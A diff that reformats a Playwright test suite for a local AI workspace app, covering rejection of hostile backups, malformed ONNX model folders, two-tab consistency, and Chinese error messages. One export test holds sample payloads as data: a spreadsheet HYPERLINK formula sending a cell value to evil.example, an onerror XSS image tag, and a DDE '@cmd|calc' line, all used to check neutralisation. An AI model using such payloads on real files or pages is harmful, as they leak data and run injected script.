@@ -75,7 +75,15 @@ function dataset(id: string, rows: number, patch: Record<string, unknown> = {}):
 }
 
 function items(count: number, prefix = 'row'): Record<string, unknown>[] {
-  return Array.from({ length: count }, (_, i) => ({ row: i + 1, id: `row-${i + 1}`, text: `${prefix} ${i + 1} works great`, date: null, rating: null, segment: null, duplicateOf: null }));
+  return Array.from({ length: count }, (_, i) => ({
+    row: i + 1,
+    id: `row-${i + 1}`,
+    text: `${prefix} ${i + 1} works great`,
+    date: null,
+    rating: null,
+    segment: null,
+    duplicateOf: null,
+  }));
 }
 
 function run(id: string, datasetId: string, total: number, patch: Record<string, unknown> = {}): Record<string, unknown> {
@@ -98,7 +106,14 @@ function stores(spoil: (s: Record<string, Record<string, unknown>[]>) => void = 
 }
 
 function backupText(storesValue: unknown, header: Record<string, unknown> = {}): string {
-  return JSON.stringify({ format: 'llmaos-workspace-backup', version: 1, schemaVersion: 1, exportedAt: new Date(T0).toISOString(), stores: storesValue, ...header });
+  return JSON.stringify({
+    format: 'llmaos-workspace-backup',
+    version: 1,
+    schemaVersion: 1,
+    exportedAt: new Date(T0).toISOString(),
+    stores: storesValue,
+    ...header,
+  });
 }
 
 async function restore(page: Page, name: string, text: string, mode: 'replace' | 'merge' = 'replace'): Promise<void> {
@@ -193,10 +208,7 @@ test('hostile backups are refused at restore with the reason, and the workspace 
   const { page } = session;
   await writeRaw(page, { drafts: [{ id: 'keep', title: 'Keep me', text: 'unchanged', createdAt: T0, updatedAt: T0 }] });
   const before = await snapshot(page);
-  const cases = [
-    ...RECORD_CASES.map((c) => ({ name: c.name, text: backupText(stores(c.spoil)), refused: c.refused })),
-    ...FILE_CASES,
-  ];
+  const cases = [...RECORD_CASES.map((c) => ({ name: c.name, text: backupText(stores(c.spoil)), refused: c.refused })), ...FILE_CASES];
   for (const [index, row] of cases.entries()) {
     await test.step(row.name, async () => {
       await restore(page, `hostile-${index}.json`, row.text, index % 2 === 0 ? 'replace' : 'merge');
@@ -214,7 +226,10 @@ test('hostile backups are refused at restore with the reason, and the workspace 
   await expectSafe(session, baseURL!);
 });
 
-test('written straight into IndexedDB, each bad record is quarantined or refused on read: never a blank app, the other dataset stays usable', async ({ context, baseURL }) => {
+test('written straight into IndexedDB, each bad record is quarantined or refused on read: never a blank app, the other dataset stays usable', async ({
+  context,
+  baseURL,
+}) => {
   const session = await open(context, 'insights');
   const { page } = session;
   for (const row of RECORD_CASES) {
@@ -380,8 +395,16 @@ const FOLDER_CASES: Array<{ name: string; dir: () => string; error: RegExp }> = 
       }),
     error: /lacks onnx\/model_quantized\.onnx \(or onnx\/model\.onnx\)/,
   },
-  { name: 'a truncated ONNX file', dir: () => folder('truncated', (d) => truncateSync(join(d, 'onnx/model_quantized.onnx'), 4096)), error: /onnx\/model_quantized\.onnx is not a usable ONNX model file: it is truncated/ },
-  { name: 'an HTML page saved as ONNX', dir: () => folder('html', (d) => writeFileSync(join(d, 'onnx/model_quantized.onnx'), '<!doctype html><html><body>Sign in</body></html>')), error: /not a usable ONNX model file/ },
+  {
+    name: 'a truncated ONNX file',
+    dir: () => folder('truncated', (d) => truncateSync(join(d, 'onnx/model_quantized.onnx'), 4096)),
+    error: /onnx\/model_quantized\.onnx is not a usable ONNX model file: it is truncated/,
+  },
+  {
+    name: 'an HTML page saved as ONNX',
+    dir: () => folder('html', (d) => writeFileSync(join(d, 'onnx/model_quantized.onnx'), '<!doctype html><html><body>Sign in</body></html>')),
+    error: /not a usable ONNX model file/,
+  },
   {
     // config.json says the weights live beside the graph (model_quantized.onnx_data): that file must be there.
     name: 'declared external data that is missing',
@@ -441,7 +464,10 @@ test('model folders missing a file, or with an ONNX file that does not parse, ar
 // ---------------------------------------------------------------------------------------------
 // 4. Two tabs of one browser context
 
-test('two tabs: a restore in one closes the other tab’s dataset and stops its run; nothing is written for the missing dataset', async ({ context, baseURL }) => {
+test('two tabs: a restore in one closes the other tab’s dataset and stops its run; nothing is written for the missing dataset', async ({
+  context,
+  baseURL,
+}) => {
   const network = recordNetwork(context);
   const a = await open(context, 'settings', network);
   await writeRaw(a.page, { datasets: [dataset('gone', 1500)], datasetRows: [{ datasetId: 'gone', items: items(1500, 'gone') }] });
@@ -458,10 +484,21 @@ test('two tabs: a restore in one closes the other tab’s dataset and stops its 
   await expect(b.page.locator('[data-testid="insights-dataset"][data-dataset-id="gone"]')).toHaveCount(0);
   // Whatever chunk was in flight is refused by the workspace; the restored workspace stays as restored.
   const refusal = await b.page.evaluate(() =>
-    window.llmaosWorkspace!.put('runs', { id: 'sentiment-gone', datasetId: 'gone', kind: 'sentiment', status: 'running', total: 1500, done: 0, startedAt: 1, updatedAt: 1 }).then(
-      () => 'saved',
-      (error: { message: string }) => error.message,
-    ),
+    window
+      .llmaosWorkspace!.put('runs', {
+        id: 'sentiment-gone',
+        datasetId: 'gone',
+        kind: 'sentiment',
+        status: 'running',
+        total: 1500,
+        done: 0,
+        startedAt: 1,
+        updatedAt: 1,
+      })
+      .then(
+        () => 'saved',
+        (error: { message: string }) => error.message,
+      ),
   );
   expect(refusal).toMatch(/its dataset no longer exists/);
   await b.page.evaluate(() => window.llmaos.embed(['one more round trip to the worker']));
@@ -474,9 +511,20 @@ test('two tabs: a restore in one closes the other tab’s dataset and stops its 
   await expectSafe(b, baseURL!);
 });
 
-test('two tabs: template edits are seen by the other tab, and a stale edit or a deleted template is refused, not silently saved', async ({ context, baseURL }) => {
+test('two tabs: template edits are seen by the other tab, and a stale edit or a deleted template is refused, not silently saved', async ({
+  context,
+  baseURL,
+}) => {
   const network = recordNetwork(context);
-  const template = (id: string, name: string, body: string) => ({ id, name, kind: 'custom', body, variables: [{ name: 'topic', label: 'Topic', kind: 'text', required: false }], createdAt: T0, updatedAt: T0 });
+  const template = (id: string, name: string, body: string) => ({
+    id,
+    name,
+    kind: 'custom',
+    body,
+    variables: [{ name: 'topic', label: 'Topic', kind: 'text', required: false }],
+    createdAt: T0,
+    updatedAt: T0,
+  });
   const a = await open(context, 'write', network);
   await writeRaw(a.page, { templates: [template('user:shared', 'Shared', 'About {{topic}}:'), template('user:doomed', 'Doomed', 'Doomed {{topic}}:')] });
   await a.page.reload();
@@ -528,7 +576,9 @@ test('a hostile dataset exports with formulas neutralised (CSV) and markup escap
   const { page } = session;
   const hostile = ['=HYPERLINK("http://evil.example/?"&A1,"click")', '<img src=x onerror=alert(1)> in a row', '+SUM(1,2)', '@cmd|calc'];
   const csvFile = `text\n${hostile.map((line) => `"${line.replace(/"/g, '""')}"`).join('\n')}\n`;
-  await page.getByTestId('insights-import-input').setInputFiles({ name: '<img src=x onerror=alert(1)>.csv', mimeType: 'text/csv', buffer: Buffer.from(csvFile) });
+  await page
+    .getByTestId('insights-import-input')
+    .setInputFiles({ name: '<img src=x onerror=alert(1)>.csv', mimeType: 'text/csv', buffer: Buffer.from(csvFile) });
   await page.getByTestId('insights-import-confirm').click();
   await expect(page.getByTestId('insights-active')).toBeVisible();
 
@@ -560,7 +610,10 @@ async function expectChineseHeadline(error: Locator, ...parts: Array<string | Re
   expect(text).not.toMatch(ENGLISH_WORDING);
 }
 
-test('in Chinese, the headline of each refusal states its reason in Chinese: backup, dataset, classifier, templates, knowledge base, model folder', async ({ context, baseURL }) => {
+test('in Chinese, the headline of each refusal states its reason in Chinese: backup, dataset, classifier, templates, knowledge base, model folder', async ({
+  context,
+  baseURL,
+}) => {
   test.setTimeout(240_000);
   const network = recordNetwork(context);
   const page = await context.newPage();
@@ -576,27 +629,39 @@ test('in Chinese, the headline of each refusal states its reason in Chinese: bac
   await test.step('backup restore: a record check (point 5) inside the restore refusal', async () => {
     await go('settings');
     await restore(page, 'yesterday.json', backupText(stores((s) => void (s.datasets![0]!.createdAt = 'yesterday'))));
-    await expectChineseHeadline(page.getByTestId('backup-restore-error'), '未恢复任何内容', '备份中“datasets”的第 1 条记录格式有误', '“createdAt”必须是日期', '"yesterday"');
+    await expectChineseHeadline(
+      page.getByTestId('backup-restore-error'),
+      '未恢复任何内容',
+      '备份中“datasets”的第 1 条记录格式有误',
+      '“createdAt”必须是日期',
+      '"yesterday"',
+    );
     await restore(page, 'newer.json', backupText({}, { version: 99 }));
     await expectChineseHeadline(page.getByTestId('backup-restore-error'), '未恢复任何内容', '更新版本的工作台');
   });
 
   await test.step('dataset: a binary file named .csv in Insights', async () => {
     await go('insights');
-    await page.getByTestId('insights-import-input').setInputFiles({ name: 'reviews.csv', mimeType: 'text/csv', buffer: Buffer.from([0x00, 0x01, 0x02, 0x03, 0xff, 0x00, 0x10, 0x00]) });
+    await page
+      .getByTestId('insights-import-input')
+      .setInputFiles({ name: 'reviews.csv', mimeType: 'text/csv', buffer: Buffer.from([0x00, 0x01, 0x02, 0x03, 0xff, 0x00, 0x10, 0x00]) });
     await expectChineseHeadline(page.getByTestId('insights-import-error'), '“reviews.csv”不是文本文件');
   });
 
   await test.step('classifier file: not JSON, in Customize', async () => {
     await go('customize');
-    await page.getByTestId('custom-import-classifier').setInputFiles({ name: 'broken.classifier.json', mimeType: 'application/json', buffer: Buffer.from('{"format": "llmaos-classifier", ') });
+    await page
+      .getByTestId('custom-import-classifier')
+      .setInputFiles({ name: 'broken.classifier.json', mimeType: 'application/json', buffer: Buffer.from('{"format": "llmaos-classifier", ') });
     await expectChineseHeadline(page.getByTestId('custom-import-error-file'), '此文件不是分类器', '不是有效的 JSON');
   });
 
   await test.step('templates file: a template using an undeclared variable, in Write', async () => {
     await go('write');
     const file = { format: TEMPLATE_FILE_FORMAT, version: 1, templates: [{ id: 't', name: 'Reply', body: 'Hello {{customer}}', variables: [] }] };
-    await page.getByTestId('write-templates-import').setInputFiles({ name: 'templates.json', mimeType: 'application/json', buffer: Buffer.from(JSON.stringify(file)) });
+    await page
+      .getByTestId('write-templates-import')
+      .setInputFiles({ name: 'templates.json', mimeType: 'application/json', buffer: Buffer.from(JSON.stringify(file)) });
     await expectChineseHeadline(page.getByTestId('write-library-error'), '这不是有效的模板文件', '使用了 {{customer}}，但没有声明');
   });
 
